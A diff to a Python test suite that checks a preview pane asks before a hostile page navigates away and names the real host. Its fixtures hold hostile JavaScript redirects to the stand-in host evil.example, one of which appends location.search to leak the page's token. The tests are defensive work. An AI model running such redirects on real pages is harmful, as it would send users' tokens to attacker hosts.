@@ -81,7 +81,8 @@ def test_the_page_does_not_replace_itself_by_content_of_its_own(hostile, make):
 
 def test_leaving_asks_in_place_and_staying_stays(hostile, asks):
     leave = "location.href = 'https://evil.example/?t=1'"
-    hostile.open(f"addEventListener('click', () => {{ {leave} }}); setTimeout(() => {{ {leave} }})")
+    hostile.open(f"addEventListener('click', () => {{ {leave} }})")
+    hostile.run(f"({leave}, 1)")
     asks("wants to go to evil.example.")
     press(hostile.pane, "Stay")
     hostile.run(f"({leave}, 1)")
@@ -94,7 +95,8 @@ def test_leaving_asks_in_place_and_staying_stays(hostile, asks):
 
 
 def test_the_page_can_not_replace_an_open_question(hostile, asks):
-    hostile.open("setTimeout(() => { location.href = 'https://harmless.example/' }, 100)")
+    hostile.open("")
+    hostile.run("(location.href = 'https://harmless.example/', 1)")
     asks("harmless.example")
     hostile.run("(location.href = 'https://evil.example/', 1)")
     hostile.run("1")
@@ -161,7 +163,8 @@ def test_a_sandboxed_frame_does_not_make_the_preview_ask(hostile):
     ids=["mixed", "whole", "right to left", "long", "name before", "not encrypted"],
 )
 def test_the_question_names_the_real_host(hostile, asks, address, words):
-    hostile.open(f"setTimeout(() => {{ location.href = '{address}' }})")
+    hostile.open("")
+    hostile.run(f"(location.href = '{address}', 1)")
     asks(words)
     assert hostile.is_still_the_portal()
 
@@ -233,9 +236,8 @@ def test_a_link_that_is_a_file_is_no_page(hostile):
 
 
 def test_the_question_does_not_show_the_token(hostile, asks):
-    hostile.open(
-        "setTimeout(() => { location.href = 'https://evil.example/' + location.search }, 100)"
-    )
+    hostile.open("")
+    hostile.run("(location.href = 'https://evil.example/' + location.search, 1)")
     asks("evil.example")
     assert not any("token" in text for text in visible_texts(hostile.pane))
 
